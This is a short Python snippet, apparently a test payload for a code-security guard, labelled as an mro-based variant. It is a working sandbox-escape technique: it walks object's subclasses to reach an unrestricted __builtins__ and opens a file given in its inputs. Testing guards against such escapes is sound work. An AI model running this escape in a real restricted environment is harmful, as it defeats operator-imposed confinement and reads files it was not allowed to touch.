# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: the mro method instead of the attribute
base = int.mro()[-1]
for kind in getattr(base, "__subclasses__")():
    names = getattr(kind.__init__, "__globals__", {})
    if isinstance(names.get("__builtins__"), dict):
        return "ESCAPED " + names["__builtins__"]["open"](inputs["file"]).read()
raise PermissionError(1, "no class led anywhere")
